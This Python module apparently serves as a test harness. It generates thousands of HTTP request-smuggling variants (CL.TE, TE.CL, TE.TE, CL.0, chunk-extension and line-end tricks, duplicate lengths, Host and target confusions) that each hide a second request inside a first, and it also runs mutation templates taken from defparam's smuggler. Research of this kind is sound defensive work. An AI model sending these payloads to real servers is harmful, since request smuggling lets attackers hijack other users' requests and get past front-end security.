"""Requests that two servers could read as different ones, by the published classes: each hides `GET /smuggled-N` behind or in `/attack-N`.

The classes are those of RFC 9112 (11.2) and of what was published since 2005: CL.TE, TE.CL and TE.TE (Linhart and others, Kettle 2019), CL.0 (2022),
0.CL and Expect (2025), chunk extensions and line ends (TERM.EXT, EXT.TERM, TERM.SPILL and others, 2025), bare LF, folded lines, lists and
duplicates of lengths, absolute targets and Hosts, upgrades, trailers.
"""

import itertools
import os
import re
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

# Bytes that one reader skips, or takes for the end of a name, value or line, and another does not.
ODD = [b"\x00", b"\x01", b"\x04", b"\x08", b"\t", b"\n", b"\x0b", b"\x0c", b"\r", b"\x1f", b" ", b"\x7f", b"\x80", b"\x85", b"\xa0", b"\xad", b"\xff", b"_", b";", b",",
       b"\r\n", b"\r\n ", b"\n ", b"\n\t", b"\r\r\n", b"\xc2\xa0", b"\xe2\x80\x8b"]
# Line ends that are none in HTTP/1.1, and the one that is.
ENDS = [b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\n\n", b"\r\r", b"\x0b\r\n", b"\x00\r\n", b" \r\n", b"\r \n", b"\r\x00\n", b"\x85", b"XX", b"X", b""]
Attack = tuple[str, str, int, bytes]


class Builder:
    """Numbers the attacks, so that each is found again in what PHP has run."""

    def __init__(self, first: int):
        self.number = first
        self.made: list[Attack] = []

    def hidden(self, more: bytes = b"") -> bytes:
        return b"GET /smuggled-%d HTTP/1.1\r\nHost: h\r\n%s\r\n" % (self.number, more)

    def head(self, fields: bytes, method: bytes = b"POST", target: bytes | None = None, end: bytes = b"\r\n\r\n") -> bytes:
        return b"%s %s HTTP/1.1\r\nHost: h\r\n%s%s" % (method, target or b"/attack-%d" % self.number, fields, end)

    def add(self, kind: str, name: str, request: bytes) -> None:
        self.made.append((kind, name, self.number, request))
        self.number += 1


def lines_like(name: bytes, value: bytes) -> Iterator[bytes]:
    """A field line with something odd at each place where readers differ."""
    for odd in ODD:
        yield odd + name + b": " + value
        yield name + odd + b": " + value
        yield name + b":" + odd + value
        yield name + b": " + value + odd
        yield name[:4] + odd + name[4:] + b": " + value
        yield b"X: x" + odd + name + b": " + value
        yield name + b": " + value + odd + b"X: x"
    yield from [name + b":" + value, name.lower() + b": " + value, name.upper() + b": " + value.upper(), name.replace(b"-", b"_") + b": " + value, name.replace(b"-", b" ") + b": " + value,
                name + b": \"" + value + b"\"", name + b": '" + value + b"'", name + b": " + value + b", " + value, name + b": " + value + b"\r\n" + name + b": " + value,
                name + b":\r\n" + name + b": " + value, name + b":: " + value, name + b"= " + value, b"Connection: " + name + b"\r\n" + name + b": " + value,
                b"Connection: close, " + name + b"\r\n" + name + b": " + value]


CODINGS = [b"identity", b"cow", b"gzip", b"x", b"", b"chunked, cow", b"cow, chunked", b"chunked, identity", b"identity, chunked", b"gzip, chunked", b"chunked;q=1", b"cow chunked bar",
           b"chunk", b"xchunked", b"chunkedx", b"[chunked]", b"chunked,", b",chunked", b"chunked, ,", b"trailers, chunked", b"chunke\xe4"]


def lengths_and_codings(builder: Builder, lines: list[bytes]) -> None:
    for line in lines:
        inner = b"0\r\n\r\n" + builder.hidden()
        builder.add("CL.TE", repr(line), builder.head(b"Content-Length: %d\r\n%s" % (len(inner), line)) + inner)
        hidden = builder.hidden()
        size = b"%x\r\n" % len(hidden)
        builder.add("TE.CL", repr(line), builder.head(b"%s\r\nContent-Length: %d" % (line, len(size))) + size + hidden + b"\r\n0\r\n\r\n")


def codings(builder: Builder) -> None:
    lengths_and_codings(builder, list(lines_like(b"Transfer-Encoding", b"chunked")) + [b"Transfer-Encoding: " + value for value in CODINGS])
    good = b"Transfer-Encoding: chunked"
    for value in CODINGS:
        for lines in (good + b"\r\nTransfer-Encoding: " + value, b"Transfer-Encoding: " + value + b"\r\n" + good, good + b"\r\nTransfer-encoding: " + value):
            builder.add("TE.TE", repr(lines), builder.head(lines) + b"0\r\n\r\n" + builder.hidden())


def lengths(builder: Builder) -> None:
    for method, kind in [(b"POST", "0.CL"), (b"GET", "0.CL, GET")]:
        for line in lines_like(b"Content-Length", b"LENGTH"):
            hidden = builder.hidden()
            builder.add(kind, repr(line), builder.head(line.replace(b"LENGTH", b"%d" % len(hidden)), method) + hidden)
    for value in [b"+%d", b"-%d", b"0%d", b"0x%x", b"%d.0", b"%de0", b"%d,", b",%d", b"%d;", b"%d %d", b"%d, 0", b"0, %d", b"%d,%d", b"(%d)", b"%d\\", b"1_%d", b"18446744073709551616%d",
                  b"1844674407370955161%d", b"4294967296%d", b"\xd9\xa3%d", b"%d abc", b"000000000000000000000000000000%d"]:
        for first in (b"", b"Content-Length: 0\r\n", b"Content-Length: %d\r\n"):
            hidden = builder.hidden()
            filled = (first + b"Content-Length: " + value).replace(b"%d", b"%d" % len(hidden)).replace(b"%x", b"%x" % len(hidden))
            builder.add("lists and duplicates of lengths", repr(first + value), builder.head(filled) + hidden)
    for first, second in itertools.permutations([b"0", b"%d", b"+0", b"", b"5", b"x"], 2):
        hidden = builder.hidden()
        pair = b"Content-Length: %s\r\nContent-Length: %s" % (first.replace(b"%d", b"%d" % len(hidden)), second.replace(b"%d", b"%d" % len(hidden)))
        builder.add("lists and duplicates of lengths", repr((first, second)), builder.head(pair) + hidden)


TARGETS = [b"/", b"/static.txt", b"/static", b"/missing.txt", b"/.env", b"/..%2f", b"/%00", b"/index.php", b"//h/static.txt", b"/static.txt/", b"/static.txt?a", b"*", b"http://h/static.txt"]
EXPECTS = [b"100-continue", b"100-Continue", b" 100-continue", b"100-continue, 100-continue", b"y 100-continue", b"100-continuex", b"200-ok", b"", b"100-continue\r\nExpect: 100-continue",
           b"x\r\nExpect: 100-continue", b"\r\n 100-continue", b"100-continue; a=b"]


def bodies(builder: Builder) -> None:
    """Requests whose body a server may forget to read, since it answers without it."""
    for method, target in itertools.product([b"POST", b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"TRACE", b"CONNECT", b"PUT", b"FOO"], TARGETS):
        hidden = builder.hidden()
        builder.add("CL.0", f"{method.decode()} {target!r}", builder.head(b"Content-Length: %d" % len(hidden), method, target) + hidden)
    for value, method, target in itertools.product(EXPECTS, [b"POST", b"GET", b"OPTIONS"], [None, b"/static.txt"]):
        hidden = builder.hidden()
        builder.add("Expect", f"{value!r} {method.decode()} {target!r}", builder.head(b"Expect: %s\r\nContent-Length: %d" % (value, len(hidden)), method, target) + hidden)
        hidden = builder.hidden()
        body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
        builder.add("Expect", f"chunked, {value!r} {method.decode()} {target!r}", builder.head(b"Expect: %s\r\nTransfer-Encoding: chunked" % value, method, target) + body)


def chunks(builder: Builder) -> None:
    def chunked(body: bytes) -> bytes:
        return builder.head(b"Transfer-Encoding: chunked") + body

    last = b"0\r\n\r\n"
    for end in ENDS:
        # Behind the size, in an extension, behind the data, behind the last size, behind a trailer, and as the last line.
        shapes = {
            "TERM: behind the size": b"5" + end + b"hello\r\n" + last,
            "TERM.EXT: ends an extension": b"5;a" + end + b"hello\r\n" + last,
            "EXT.TERM: hides a chunk in an extension": b"2;" + end + b"xx\r\n%x\r\n" % len(last) + last + builder.hidden(),
            "EXT.TERM: hides a request in an extension": b"5;a=" + end + builder.hidden() + b"hello\r\n" + last,
            "EXT.TERM: in quotes": b'5;a="' + end + b'"\r\nhello\r\n' + last,
            "EXT.TERM: escaped, in quotes": b'5;a="\\' + end + b'"\r\nhello\r\n' + last,
            "SPILL.TERM: behind the data": b"5\r\nhello" + end + last,
            "TERM.SPILL: data of another length": b"5\r\nhello" + end + b"%x\r\n" % len(last) + last + builder.hidden(),
            "behind the last size": b"5\r\nhello\r\n0" + end + b"\r\n",
            "behind the last size, with an extension": b"5\r\nhello\r\n0;a" + end + b"\r\n",
            "behind a trailer": b"5\r\nhello\r\n0\r\nX: y" + end + b"\r\n",
            "as the last line": b"5\r\nhello\r\n0\r\n" + end,
            "as the last line behind a trailer": b"5\r\nhello\r\n0\r\nX: y\r\n" + end,
        }
        for number, name in enumerate(shapes):
            # Each shape is built for its own number.
            body = {key: re.sub(rb"smuggled-\d+", b"smuggled-%d" % builder.number, value) for key, value in shapes.items()}[name]
            builder.add("chunks: extensions and line ends", f"{name}, {end!r}", chunked(body) + builder.hidden())
            del number
    sizes = [b"%x", b"0%x", b"0x%x", b"+%x", b"-%x", b" %x", b"%x ", b"\t%x", b"%x\x00", b"%x,", b"%x;", b"%x ;a", b"%x; a", b"%x;a =b", b"%x;a=", b"%x;=b", b"%x;;", b"%x;a;b", b'%x;a="b;c"', b'%x;a="b',
             b"%x a", b"%x:a", b"1000000000000000%x", b"100000000%x", b"ffffffffffffffff", b"8000000000000000", b"7fffffffffffffff", b"%xg", b"g%x", b"%x.0", b"", b"00000000000000000000000%x", b"%x_", b"0b1",
             b"%x\r", b"\r\n%x", b"%x;a\x00b", b"%x;a\x7f", b"%x;a=\x80", b"%x;\x0b"]
    for size, more in itertools.product(sizes, [b"", b"X"]):
        hidden = builder.hidden()
        body = size.replace(b"%x", b"%x" % len(hidden)) + b"\r\n" + hidden + more + b"\r\n" + last
        builder.add("chunks: sizes", f"{size!r} {'and a byte more' if more else ''}", chunked(body))
        hidden = builder.hidden()
        builder.add("chunks: sizes", f"the last, {size!r} {more!r}", chunked(b"5\r\nhello\r\n" + size.replace(b"%x", b"0") + b"\r\n" + more + b"\r\n") + hidden)
    for trailer in [b"Content-Length: 5", b"Transfer-Encoding: chunked", b"Host: other", b"X : y", b" X: y", b"X", b": y", b"X: y\r\n z", b"X: \x00", b"Connection: close", b"GET /smuggled-%d HTTP/1.1", b"Expect: 100-continue"]:
        filled = trailer.replace(b"%d", b"%d" % builder.number)
        builder.add("chunks: trailers", repr(trailer), chunked(b"5\r\nhello\r\n0\r\n" + filled + b"\r\n\r\n") + builder.hidden())


def line_ends(builder: Builder) -> None:
    for end in ENDS:
        parts = [b"POST /attack-%d HTTP/1.1", b"Host: h", b"Content-Length: 0"]
        for place in range(4):
            ends = [b"\r\n"] * 4
            ends[place] = end
            lines = b"".join(part + line_end for part, line_end in zip([*parts, b""], ends))
            builder.add("line ends of the head", f"line {place}, {end!r}", lines.replace(b"%d", b"%d" % builder.number) + builder.hidden())
        builder.add("line ends of the head", f"all lines, {end!r}", end.join([*parts, b"", b""]).replace(b"%d", b"%d" % builder.number) + builder.hidden())
        builder.add("line ends of the head", f"before the request, {end!r}", end + builder.head(b"Content-Length: 0") + builder.hidden())
        hidden = b"GET /smuggled-%d HTTP/1.1" % builder.number
        builder.add("line ends of the head", f"a request in a value, {end!r}", builder.head(b"X: y" + end + end + hidden + end + b"Host: h" + end + b"X: y", b"GET"))
    for fold in [b"\r\n ", b"\r\n\t", b"\n ", b"\r ", b"\r\n  \t", b"\r\n \r\n "]:
        for name in [b"X: y%sz", b"Content-Length:%s5", b"Transfer-Encoding:%schunked", b"Transfer-Encoding: chun%sked", b"X: y%sTransfer-Encoding: chunked", b"X: y%sContent-Length: 5", b"Connection:%sclose"]:
            builder.add("folded lines", repr(name % fold), builder.head(name % fold) + b"5\r\nhello\r\n0\r\n\r\n" + builder.hidden())
        builder.add("folded lines", f"before all fields, {fold!r}", b"POST /attack-%d HTTP/1.1%sHost: h\r\nHost: h\r\n\r\n" % (builder.number, fold) + builder.hidden())


def targets(builder: Builder) -> None:
    for target in [b"http://h/attack-%d", b"http://other/attack-%d", b"HTTP://h/attack-%d", b"https://h/attack-%d", b"http:/attack-%d", b"http:///attack-%d", b"http://h:80/attack-%d", b"http://u@h/attack-%d",
                   b"http://h#@other/attack-%d", b"http://h\\@other/attack-%d", b"//other/attack-%d", b"\\attack-%d", b"/attack-%d#x", b"/attack-%d\t", b"/attack-%d HTTP/1.0", b"/attack-%d HTTP/1.1 x", b"/attack-%d\x00",
                   b"/attack-%d\r", b"/attack-%d\n", b"/attack-%d\xa0", b"attack-%d", b"?attack-%d", b"@h/attack-%d", b":80/attack-%d", b"gopher://h/attack-%d", b"/attack-%d HTTP/1.1\nX: y"]:
        for hosts in (b"Host: h", b"Host: other", b"Host: h\r\nHost: other", b"Host : h", b" Host: h", b"Host: h\r\nHost: h", b"host: h\r\nHOST: other", b"Host:\r\n h", b"Host: h, other", b"Host: h\r\n\tother",
                      b"X: y", b"Host: h/../", b"Host: h:80:80", b"Host: h@other", b"Host: h\x00", b"Host: h other", b"Host_: h\r\nHost: h"):
            if target in (b"http://h/attack-%d", b"http://other/attack-%d", b"/attack-%d\x00") or hosts == b"Host: h":
                line = b"GET " + target.replace(b"%d", b"%d" % builder.number) + b" HTTP/1.1\r\n" + hosts + b"\r\n\r\n"
                builder.add("absolute targets and Hosts", f"{target!r} {hosts!r}", line + builder.hidden())


def versions(builder: Builder) -> None:
    for version in [b"HTTP/1.0", b"HTTP/1.2", b"HTTP/1.10", b"HTTP/2.0", b"HTTP/0.9", b"HTTP/01.1", b"HTTP/1.1x", b"http/1.1", b"HTTP/1", b"", b"HTTP/1.1\t", b"HTTP/1.1 ", b"HTTP/1,1", b"HTTP/3.0"]:
        for fields, body in [(b"Transfer-Encoding: chunked", b"0\r\n\r\n"), (b"Content-Length: 5", b"hello"), (b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"0\r\n\r\n"), (b"X: y", b"")]:
            for keep in (b"", b"Connection: keep-alive\r\n"):
                builder.add("versions", f"{version!r} {fields!r} {keep!r}", b"POST /attack-%d %s\r\nHost: h\r\n%s%s\r\n\r\n%s" % (builder.number, version, keep, fields, body) + builder.hidden())
    for fields in [b"Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 1337\r\nSec-WebSocket-Key: aGVhcnRoIGhlYXJ0aCE=",
                   b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x", b"Connection: Upgrade\r\nUpgrade: foo", b"Upgrade: h2c", b"Connection: upgrade, HTTP2-Settings\r\nUpgrade: h2c",
                   b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 5", b"Connection: Upgrade\r\nUpgrade: TLS/1.0"]:
        for method, body in [(b"GET", b""), (b"POST", b"hello")]:
            builder.add("upgrades", f"{fields!r} {method.decode()}", builder.head(fields, method) + body + builder.hidden())


def configured(builder: Builder, folder: Path) -> None:
    """The mutations of https://github.com/defparam/smuggler (its folder configs)."""
    for path in sorted((folder / "configs").glob("*.py")):
        mutations: dict[str, SimpleNamespace] = {}
        exec(path.read_text(encoding="utf-8", errors="surrogateescape"), {"mutations": mutations, "Payload": SimpleNamespace})  # noqa: S102: it is a list of templates
        for name, payload in mutations.items():
            for kind in ("CL.TE", "TE.CL"):
                hidden = builder.hidden()
                size = b"%x\r\n" % len(hidden)
                body, length = (b"0\r\n\r\n" + hidden, None) if kind == "CL.TE" else (size + hidden + b"\r\n0\r\n\r\n", len(size))
                head = payload.header.replace("__REPLACE_CL__", str(len(body) if length is None else length)).replace("__METHOD__", "POST").replace("__HOST__", "h")
                head = head.replace("__ENDPOINT__?cb=__RANDOM__", f"/attack-{builder.number}")
                builder.add("defparam's smuggler", f"{path.stem} {name} {kind}", head.encode("latin-1") + b"\r\n" + body)


def attacks(first: int) -> list[Attack]:
    builder = Builder(first)
    for part in (codings, lengths, bodies, chunks, line_ends, targets, versions):
        part(builder)
    if where := os.environ.get("SMUGGLER"):
        configured(builder, Path(where))
    return builder.made
